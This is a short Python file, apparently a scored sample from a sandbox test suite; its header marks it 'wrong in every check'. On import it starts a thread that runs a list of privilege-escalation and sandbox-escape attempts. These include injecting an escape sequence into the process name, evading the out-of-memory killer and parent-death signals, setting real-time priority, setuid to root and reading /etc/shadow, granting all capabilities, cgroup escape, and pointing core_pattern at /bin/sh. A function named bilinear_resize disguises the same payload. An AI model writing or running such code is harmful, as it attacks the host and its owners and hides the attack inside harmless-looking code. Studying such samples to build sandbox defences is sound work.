# verdict: wrong in every check  - changes what the kernel knows of the process
# tries: a name with an escape sequence and a closing bracket (for whoever parses /proc/<pid>/stat), not dumpable, no signal
#        at the parent's death, reaper of orphans, real-time priority and the highest niceness, real-time budget, slack
#        of timers, out-of-memory score, its own cgroup, and all capabilities, from a thread that then takes over.
# seen: ours
# points: 0
import ctypes
import os
import threading

LIBC = ctypes.CDLL(None, use_errno=True)


def attempts():
    yield "name", lambda: LIBC.prctl(15, b") R 1 \x1b[2J (", 0, 0, 0) and None
    yield "outlives", lambda: LIBC.prctl(1, 0, 0, 0, 0)
    yield "reaper", lambda: LIBC.prctl(36, 1, 0, 0, 0) and None
    yield "dumpable", lambda: LIBC.prctl(4, 0, 0, 0, 0) and None
    yield "niceness", lambda: os.setpriority(os.PRIO_PROCESS, 0, -20)
    yield "others' niceness", lambda: os.setpriority(os.PRIO_USER, 0, 19)
    yield "real time", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99))
    yield "root", lambda: os.setresuid(0, 0, 0) or open("/etc/shadow").read()
    yield "capabilities", lambda: LIBC.capset((ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)(*[2**32 - 1] * 6))
    yield "memory", lambda: open("/proc/self/oom_score_adj", "w").write("-1000")
    yield "cgroup", lambda: open("/sys/fs/cgroup/cgroup.procs", "w").write(str(os.getpid()))
    yield "core", lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/bin/sh")
    yield "root directory", lambda: os.chroot("/home")


def take_over():
    for name, attempt in attempts():
        try:
            result = attempt()
            if result is not None and result != -1:
                print(name, "worked", repr(result)[:200], flush=True)
        except (OSError, ValueError):
            pass


thread = threading.Thread(target=take_over)
thread.start()
thread.join()


def bilinear_resize(image, out):
    take_over()
